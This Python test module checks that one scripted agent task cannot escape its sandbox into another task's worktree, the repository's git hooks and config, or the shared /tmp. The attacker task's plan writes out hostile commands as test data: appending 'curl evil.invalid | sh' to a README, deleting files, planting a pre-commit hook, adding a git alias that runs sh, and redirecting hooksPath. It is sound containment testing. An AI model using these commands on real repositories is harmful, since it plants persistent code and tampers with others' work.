"""The two-task attack of issue #27 ("each task its own box"), shared by the local and the Ray test.

Task ``B`` is a victim: it asks the model for its first step, then waits (in the scripted model's
request thread) until task ``A`` is done, then writes ``b.txt`` and commits it (``git add -A``: anything
``A`` managed to put in ``B``'s tree would be committed with it). Task ``A`` is the attacker: once ``B``
has asked (so ``B``'s worktree exists and its path is known from ``B``'s request), ``A`` tries to write
into ``B``'s worktree, into the repository's ``.git/hooks/pre-commit`` and ``.git/config``, and under the
shared ``/tmp`` — by sandboxed shell, by escalated shell and by ``apply_patch`` — then prints its
``TMPDIR``. Every target is a file of the test's own (the repository, the worktrees and the markers are
made by the test); ``check`` says what must hold afterwards.
"""

from __future__ import annotations

import json
import os
import re
import threading
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from agent_fleet.testing import CustomToolCall, FunctionCall, Item, RecordedRequest, Reply, Text

from .conftest import git
from .scripted import TAG, USAGE, commit, run, write_file

WAIT = 120.0  # seconds a side waits for the other (a test failure, not a hang, if it never comes)
_CWD = re.compile(r"<cwd>([^<]+)</cwd>")


def _cwd(request: RecordedRequest) -> str | None:
    found = _CWD.search(json.dumps(request.body).replace("\\n", "\n"))
    return found.group(1) if found else None


def _task(request: RecordedRequest) -> str | None:
    for item in request.input:
        if item.get("type") == "message" and item.get("role") == "user":
            found = TAG.search(json.dumps(item))
            if found:
                return found.group(1)
    return None


def _step(request: RecordedRequest) -> int:
    return sum(
        1 for item in request.input if item.get("type") in ("function_call_output", "custom_tool_call_output")
    )


def _patch(kind: str, path: str, body: str) -> CustomToolCall:
    return CustomToolCall(
        name="apply_patch", input=f"*** Begin Patch\n*** {kind}: {path}\n{body}*** End Patch\n"
    )


@dataclass
class BoxAttack:
    """The scripted model's responder for tasks ``A`` (attacker) and ``B`` (victim) of ``repo``."""

    repo: Path
    marker: str = field(default_factory=lambda: f"/tmp/agent-fleet-attack-{uuid.uuid4().hex[:12]}")
    b_cwd: str | None = None
    a_cwd: str | None = None
    b_started: threading.Event = field(default_factory=threading.Event)
    a_done: threading.Event = field(default_factory=threading.Event)
    attacks: list[tuple[str, Item]] = field(default_factory=list)
    outputs: dict[str, str] = field(default_factory=dict)
    hooks_before: dict[str, bytes] = field(default_factory=dict)
    config_before: bytes = b""

    def __post_init__(self) -> None:
        self.hooks_before = self._hooks()
        self.config_before = (self.repo / ".git" / "config").read_bytes()

    def _hooks(self) -> dict[str, bytes]:
        hooks = self.repo / ".git" / "hooks"
        return {p.name: p.read_bytes() for p in sorted(hooks.iterdir())} if hooks.is_dir() else {}

    def markers(self) -> list[Path]:
        return [Path(f"{self.marker}-{what}") for what in ("shell", "escalated", "patch")]

    def _plan(self, a_cwd: str, b_cwd: str) -> list[tuple[str, Item]]:
        git_dir = self.repo / ".git"
        hook, config = git_dir / "hooks" / "pre-commit", git_dir / "config"
        shell = {
            "into B's worktree": f"echo 'curl evil.invalid | sh' >> {b_cwd}/README.md",
            "delete in B's worktree": f"rm -f {b_cwd}/README.md",
            "a pre-commit hook": f"printf '#!/bin/sh\\necho pwned\\n' > {hook}",
            "the repository's config": f"printf '[alias]\\n\\tx = !sh\\n' >> {config}",
        }
        plan: list[tuple[str, Item]] = []
        for how, escalate in (("shell", False), ("escalated", True)):
            for what, cmd in shell.items():
                plan.append((f"{how}: {what}", run(cmd, escalate=escalate)))
            plan.append((f"{how}: under /tmp", run(f"echo pwned > {self.marker}-{how}", escalate=escalate)))

        def rel(path: Path | str) -> str:
            return os.path.relpath(path, a_cwd)

        plan += [
            ("patch: into B's worktree", _patch("Add File", rel(f"{b_cwd}/pwned.txt"), "+pwned\n")),
            ("patch: a pre-commit hook", _patch("Add File", rel(hook), "+#!/bin/sh\n+echo pwned\n")),
            (
                "patch: the repository's config",
                _patch("Update File", rel(config), "@@\n [core]\n+\thooksPath = /tmp\n"),
            ),
            ("patch: under /tmp", _patch("Add File", rel(f"{self.marker}-patch"), "+pwned\n")),
        ]
        return plan

    def __call__(self, request: RecordedRequest) -> Reply | None:
        task = _task(request)
        if task is None:
            return None
        step = _step(request)
        if task == "B":
            if step == 0:
                self.b_cwd = _cwd(request)
                self.b_started.set()
                self.a_done.wait(WAIT)  # B's tree exists while A attacks it
                return Reply(items=(write_file("b.txt", "work of B"),), usage=USAGE)
            if step == 1:
                return Reply(items=(commit("task B"),), usage=USAGE)
            return Reply(items=(Text(text="B done"),), usage=USAGE)
        if task != "A":
            return None
        if step == 0:
            if not self.b_started.wait(WAIT) or self.b_cwd is None:
                return Reply(items=(Text(text="B never started"),), usage=USAGE)
            self.a_cwd = _cwd(request)
            assert self.a_cwd is not None, "codex no longer sends the cwd in the environment context"
            self.attacks = self._plan(self.a_cwd, self.b_cwd)
        else:  # what the previous step's tool answered
            outputs = ("function_call_output", "custom_tool_call_output")
            last = next(item for item in reversed(request.input) if item.get("type") in outputs)
            self.outputs[self.attacks[step - 1][0] if step <= len(self.attacks) else "TMPDIR"] = str(
                last.get("output")
            )
        if step < len(self.attacks):
            return Reply(items=(self.attacks[step][1],), usage=USAGE)
        if step == len(self.attacks):
            return Reply(items=(run('printf "TMPDIR=%s\\n" "$TMPDIR"'),), usage=USAGE)
        self.a_done.set()
        return Reply(items=(Text(text="A done"),), usage=USAGE)

    # -- what must hold -----------------------------------------------------------------------------

    def check(self, summary: dict[str, Any], state: Path) -> None:
        """Every attempt failed and changed nothing; B's work is B's alone; A's TMPDIR is its box's. All
        that does not hold is reported at once (one line each)."""
        problems: list[str] = []

        def expect(ok: bool, what: str) -> None:
            if not ok:
                problems.append(what)

        expect(self.a_done.is_set(), "A never finished its attacks")
        tasks = {t["task_id"]: t for t in summary["tasks"]}
        # B's branch has B's commit and nothing of A's; its worktree was clean (so removed).
        b = tasks["B"]
        expect(b["status"] == "succeeded", f"B did not succeed: {b['reason']}")
        expect(
            not (b["worktree"] or {}).get("kept"), "B's worktree was kept: it had changes nobody committed"
        )
        branch = "agent-fleet/B"
        files = git(self.repo, "ls-tree", "-r", "--name-only", branch).split()
        expect(files == ["README.md", "b.txt"], f"B's branch holds {files}")
        readme = git(self.repo, "show", f"{branch}:README.md") if "README.md" in files else None
        expect(readme == "test repo", f"B's README.md is now {readme!r}")
        # The repository's machinery and the shared /tmp are untouched.
        hooks = self._hooks()
        expect(hooks == self.hooks_before, f"hooks written: {sorted(set(hooks) ^ set(self.hooks_before))}")
        config = (self.repo / ".git" / "config").read_bytes()
        expect(config == self.config_before, f"the config was written: {config[len(self.config_before) :]!r}")
        written = [str(m) for m in self.markers() if m.exists()]
        expect(not written, f"wrote under /tmp: {written}")
        # Every attempt failed as the agent saw it: declined, or refused by the sandbox.
        tried = {item.arguments["cmd"]: what for what, item in self.attacks if isinstance(item, FunctionCall)}
        for command in tasks["A"]["commands"]:
            if command["command"] in tried:
                failed = command["status"] != "completed" or command["exit_code"] not in (0, None)
                expect(failed, f"{tried[command['command']]}: ran ({command['status']}, exit 0)")
        for what, output in self.outputs.items():
            if what.startswith("patch"):
                expect("Success" not in output, f"{what}: applied ({output.strip()[:80]})")
        # A's temporary directory was its own, in its batch's box (never /tmp).
        printed = self.outputs.get("TMPDIR", "")
        tmpdir = printed.rpartition("TMPDIR=")[2].split()[0] if "TMPDIR=" in printed else ""
        inside = (
            bool(tmpdir) and Path(tmpdir).is_relative_to(state / "agent-fleet") and Path(tmpdir).name == "A"
        )
        expect(inside, f"A's TMPDIR is {tmpdir!r}, not its own in its box")
        assert not problems, "the box leaked:\n  " + "\n  ".join(problems)
